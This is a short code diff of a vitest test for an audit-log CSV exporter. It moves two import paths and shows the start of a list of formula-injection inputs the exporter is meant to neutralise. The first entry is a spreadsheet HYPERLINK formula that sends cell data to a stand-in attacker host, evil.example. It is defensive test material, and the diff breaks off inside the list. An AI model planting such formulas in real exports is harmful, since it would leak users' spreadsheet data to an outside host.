@@ -1,8 +1,8 @@
 /** The audit log as a file: names and values others chose run as no formula in a spreadsheet. */
 import Papa from "papaparse";
 import { expect, it } from "vitest";
-import { auditCsv } from "../../../frontend/src/pages/settings/audit-csv.ts";
-import type { AuditRow } from "../../../src/protocol/index.ts";
+import { auditCsv } from "../../../frontend/src/team/settings/audit-csv.ts";
+import type { AuditRow } from "../../../src/team/api/audit.ts";
 
 const FORMULAS = [
   '=HYPERLINK("https://evil.example/?"&A1,"Open")',
